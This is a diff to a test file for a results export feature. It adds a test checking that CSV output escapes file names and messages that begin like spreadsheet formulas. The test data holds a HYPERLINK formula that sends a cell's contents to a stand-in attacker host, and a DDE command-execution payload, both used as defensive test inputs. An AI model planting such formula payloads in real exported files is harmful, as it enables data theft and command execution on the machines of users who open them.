@@ -39,4 +39,25 @@ describe('results export', () => {
     )
     expect(JSON.parse(resultsJson(resultRecords(rows)))).toHaveLength(2)
   })
+
+  it('writes file names and messages that start like a formula as text, apostrophe first', () => {
+    const risky = [
+      imageRow(
+        4,
+        {},
+        {
+          status: 'rejected',
+          relativePath: '=HYPERLINK("http://evil.example/?"&A1,"Open").jpg',
+          importFailure: { reason: '@SUM(1+1)*cmd|" /C calc"!A0', retryable: false },
+        },
+      ),
+      imageRow(5, {}, { status: 'imported', relativePath: '-5', result: { mediaId: 'entry-5', record: {} } }),
+    ]
+    expect(resultsCsv(resultRecords(risky)).split('\r\n').slice(1)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"").jpg",entry-4,,rejected,"'@SUM(1+1)*cmd|"" /C calc""!A0"`,
+      // A plain number stays a number.
+      '-5,entry-5,entry-5,imported,',
+      '',
+    ])
+  })
 })
